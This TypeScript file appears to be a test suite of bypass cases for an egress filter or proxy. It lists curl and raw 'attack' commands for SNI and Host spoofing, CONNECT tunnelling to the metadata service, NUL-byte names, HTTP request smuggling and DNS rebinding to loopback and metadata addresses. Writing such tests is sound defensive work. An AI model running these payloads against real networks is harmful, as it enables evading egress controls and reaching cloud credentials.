import { METADATA, SHARED } from '../addresses.ts'
import { type BypassCase, createBypasses } from './case.ts'

const GET = '\\r\\nConnection: close\\r\\n\\r\\n'
const PLAIN = '45.67.0.11'

/** Ways out that lie about a name. */
export const NAMES: readonly BypassCase[] = [
  ...createBypasses('false SNI or Host to a foreign address', [
    [
      'allowed SNI to an own address',
      'curl -sk -m 6 --resolve allowed.example.com:443:$V4 https://allowed.example.com/false-sni',
    ],
    [
      'allowed SNI to an own IPv6 address',
      'curl -sk -m 6 --resolve "allowed.example.com:443:[$V6]" https://allowed.example.com/false-sni',
    ],
    ['allowed Host to an own address', `attack tcp $V4 80 "GET / HTTP/1.1\\r\\nHost: plain.example.com${GET}"`],
    ['allowed name by --connect-to', 'curl -sk -m 6 --connect-to ::$V4:443 https://allowed.example.com/false-sni'],
    ['allowed SNI to another port', 'curl -sk -m 6 --connect-to ::$V4:9999 https://allowed.example.com/false-sni'],
  ]),
  ...createBypasses('other name on a shared address', [
    [
      'other SNI on the address of an allowed name',
      `curl -sk -m 6 --resolve bad.cdn.example.com:443:${SHARED} https://bad.cdn.example.com/$MARKER`,
    ],
    ['other name, looked up', 'curl -sk -m 6 https://bad.cdn.example.com/$MARKER'],
    [
      'other Host on the address of an allowed name',
      `attack tcp ${SHARED} 80 "GET /$MARKER HTTP/1.1\\r\\nHost: bad.cdn.example.com${GET}"`,
    ],
  ]),
  ...createBypasses('CONNECT name differs from SNI', [
    [
      'other SNI inside CONNECT',
      `attack connectproxy good.cdn.example.com:443 bad.cdn.example.com "GET /$MARKER HTTP/1.1\\r\\nHost: bad.cdn.example.com${GET}"`,
      { leaksWithout: false },
    ],
    [
      'plain text inside CONNECT',
      'attack rawproxy "CONNECT good.cdn.example.com:443 HTTP/1.1\\r\\n\\r\\n" $MARKER',
      { leaksWithout: false },
    ],
    ['CONNECT to an address', 'attack connectproxy $V4:443 allowed.example.com hello', { leaksWithout: false }],
    ['CONNECT to a foreign name', 'curl -sk -m 6 -x $ANYPROXY https://$NAME/$MARKER', { leaksWithout: false }],
    ['plain request through the proxy', 'curl -s -m 6 -x $ANYPROXY http://$NAME/$MARKER', { leaksWithout: false }],
    [
      'CONNECT to the metadata service',
      `attack connectproxy ${METADATA}:80 '' "GET /$MARKER HTTP/1.0\\r\\n\\r\\n"`,
      { leaksWithout: false },
    ],
  ]),
  ...createBypasses('NUL and odd names, smuggling, 2nd request', [
    ['every port of others on loopback', 'attack listeners $NAME $MARKER'],
    ['NUL in the SNI', "attack rawhello $V4 443 'allowed.example.com\\x00.'$NAME"],
    ['two names in the SNI', 'attack rawhello $V4 443 allowed.example.com $NAME'],
    ['allowed name in front of the own', 'attack rawhello $V4 443 allowed.example.com.$NAME'],
    ['own name in front, no dot', 'attack rawhello $V4 443 "$MARKER"allowed.example.com'],
    ['dots at the end', 'attack rawhello $V4 443 $NAME..'],
    ['SNI that is not ASCII', "attack rawhello $V4 443 $MARKER'.\\xc3\\xa4llowed.example.com'"],
    ['SNI with a space', "attack rawhello $V4 443 'allowed.example.com '$NAME"],
    ['an address as SNI', 'attack rawhello $V4 443 $V4'],
    ['a very long SNI', 'attack rawhello $V4 443 $(printf "a%.0s" {1..3000}).$NAME'],
    ['NUL in CONNECT', "attack connectproxy 'allowed.example.com\\x00.'$NAME:443 '' ''", { leaksWithout: false }],
    ['CONNECT inside a name', "attack connectproxy allowed.example.com:443@$NAME:443 '' ''", { leaksWithout: false }],
    ['NUL in Host', `attack tcp ${PLAIN} 80 "GET /$MARKER HTTP/1.1\\r\\nHost: plain.example.com\\x00.$NAME${GET}"`],
    ['a deny rule below a wildcard', 'curl -sk -m 6 https://denied.wild.example.org/$MARKER'],
    [
      'second request with another Host',
      `attack tcp ${PLAIN} 80 "GET / HTTP/1.1\\r\\nHost: plain.example.com\\r\\n\\r\\n" "GET /$MARKER HTTP/1.1\\r\\nHost: $NAME${GET}"`,
    ],
    [
      'second request, pipelined',
      `attack tcp ${PLAIN} 80 "GET / HTTP/1.1\\r\\nHost: plain.example.com\\r\\n\\r\\nGET /$MARKER HTTP/1.1\\r\\nHost: $NAME${GET}"`,
    ],
    [
      'length and chunked',
      `attack tcp ${PLAIN} 80 "POST / HTTP/1.1\\r\\nHost: plain.example.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /$MARKER HTTP/1.1\\r\\nHost: $NAME${GET}"`,
    ],
    [
      'odd transfer encoding',
      `attack tcp ${PLAIN} 80 "POST / HTTP/1.1\\r\\nHost: plain.example.com\\r\\nTransfer-Encoding: xchunked\\r\\nContent-Length: 9\\r\\n\\r\\n0\\r\\n\\r\\nGET /$MARKER HTTP/1.1\\r\\nHost: $NAME${GET}"`,
    ],
    [
      'two lengths',
      `attack tcp ${PLAIN} 80 "POST / HTTP/1.1\\r\\nHost: plain.example.com\\r\\nContent-Length: 0\\r\\nContent-Length: 90\\r\\n\\r\\nGET /$MARKER HTTP/1.1\\r\\nHost: $NAME${GET}"`,
    ],
    ['two Hosts', `attack tcp ${PLAIN} 80 "GET /$MARKER HTTP/1.1\\r\\nHost: plain.example.com\\r\\nHost: $NAME${GET}"`],
    ['no Host', `attack tcp ${PLAIN} 80 "GET /$MARKER HTTP/1.0\\r\\n\\r\\n"`],
    ['folded Host', `attack tcp ${PLAIN} 80 "GET /$MARKER HTTP/1.1\\r\\nHost: plain.example.com\\r\\n $NAME${GET}"`],
    [
      'absolute form and another Host',
      `attack tcp ${PLAIN} 80 "GET http://$NAME/$MARKER HTTP/1.1\\r\\nHost: plain.example.com${GET}"`,
    ],
    [
      'bare line feeds',
      `attack tcp ${PLAIN} 80 "GET / HTTP/1.1\\nHost: plain.example.com\\n\\nGET /$MARKER HTTP/1.1\\nHost: $NAME\\n\\n"`,
    ],
    [
      'CONNECT on port 80',
      `attack tcp ${PLAIN} 80 "CONNECT plain.example.com:22 HTTP/1.1\\r\\nHost: plain.example.com:22\\r\\n\\r\\n" $MARKER`,
    ],
    [
      'upgrade, then anything',
      `attack tcp ${PLAIN} 80 "GET / HTTP/1.1\\r\\nHost: plain.example.com\\r\\nUpgrade: h2c\\r\\nConnection: Upgrade\\r\\n\\r\\n" "GET /$MARKER HTTP/1.1\\r\\nHost: $NAME${GET}"`,
    ],
    ['HTTP/2 without TLS', 'curl -s -m 6 --http2-prior-knowledge http://$NAME/$MARKER'],
  ]),
  ...createBypasses('rebinding to metadata or loopback', [
    ['metadata, https', 'curl -sk -m 6 https://$MARKER.meta.rebind.example.org/', { proof: { marker: 'beyond-dns' } }],
    ['metadata, http', 'curl -s -m 6 http://$MARKER.meta.rebind.example.org/', { proof: { marker: 'beyond-dns' } }],
    ['loopback', 'curl -sk -m 6 https://$MARKER.loop.rebind.example.org/', { proof: { marker: 'beyond-dns' } }],
    ['loopback, http', 'curl -s -m 6 http://$MARKER.loop.rebind.example.org/', { proof: { marker: 'beyond-dns' } }],
    ['private network', 'curl -s -m 6 http://$MARKER.private.rebind.example.org/', { proof: { marker: 'beyond-dns' } }],
    ['the own address', 'curl -s -m 6 http://$MARKER.own.rebind.example.org/', { proof: { marker: 'beyond-dns' } }],
    [
      'metadata as mapped IPv6',
      'curl -s -m 6 http://$MARKER.mapped.rebind.example.org/',
      { proof: { marker: 'beyond-dns' } },
    ],
    [
      'metadata behind NAT64',
      'curl -s -m 6 http://$MARKER.nat64.rebind.example.org/',
      { proof: { marker: 'beyond-dns', addresses: ['64:ff9b::a9fe:a9fe'] } },
    ],
    [
      'metadata in 6to4 form',
      'curl -s -m 6 http://$MARKER.sixtofour.rebind.example.org/',
      { proof: { marker: 'beyond-dns', addresses: ['2002:a9fe:a9fe::1'] } },
    ],
  ]),
]
